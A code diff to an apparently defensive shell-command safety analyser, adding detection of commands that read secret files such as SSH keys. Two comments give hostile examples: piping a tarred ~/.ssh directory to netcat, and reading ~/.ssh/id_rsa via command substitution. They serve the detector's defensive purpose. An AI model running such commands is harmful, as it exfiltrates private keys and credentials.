@@ -60,7 +60,7 @@ from tui.core.safety.rules.code import executing_kinds
 from tui.core.safety.rules.cores import background_burners
 from tui.core.safety.rules.embedded import subscript_code
 from tui.core.safety.rules.hogs import endless_sources
-from tui.core.safety.rules.network import command_kinds
+from tui.core.safety.rules.network import command_kinds, reads_secret_in
 from tui.core.safety.rules.resources import (
     busy_cores,
     captured_endless,
@@ -109,6 +109,15 @@ def runs_variable(text: str, variable: str) -> bool:
         re.search(rf"\beval\s+{used}|\b(?:ba|z|da|k)?sh\s+-c\s+{used}", text)
         or re.search(rf"(?:^|[;&|]|\bdo|\bthen)\s*{used}(?:\s|;|$)", text)
     )
+
+
+def _file_read_in(node: Node) -> set[str]:
+    """What `$(< FILE)` yields: a secret's contents, or a file's."""
+    for child in node.children:
+        target = child.child_by_field_name("destination") if child.type == "file_redirect" else None
+        if target is not None:
+            return {"secret"} if secret_path(evaluate(target).value) else {"file"}
+    return set()
 
 
 def _last_command(body: Node | None) -> Node | None:
@@ -436,6 +445,8 @@ class Analyser:
                 layers, code = expand(quietly_resolved(command, self.ctx.variables))
                 for layer in layers[-1:]:
                     stage_kinds |= command_kinds(layer) | socket_kinds(layer, self.ctx)
+                    if self.ctx.cwd is not None and reads_secret_in(layer, self.ctx.resolve):
+                        stage_kinds.add("secret")  # `cd ~/.ssh && tar cz . | nc host 9`
                     if stage_kinds & _TAKERS and strangers.stays_local(layer):
                         stage_kinds.add("local")
                 stage_kinds |= _remote_kinds(code)
@@ -751,6 +762,8 @@ class Analyser:
                 layers, _ = expand(build_command(node, parent))
                 for layer in layers[-1:]:
                     kinds |= command_kinds(layer)
+            elif node.type == "command_substitution":
+                kinds |= _file_read_in(node)  # `$(< ~/.ssh/id_rsa)`: bash reads the file in
             stack.extend((child, node) for child in node.children)
         self._kinds[key] = frozenset(kinds)
         return self._kinds[key]
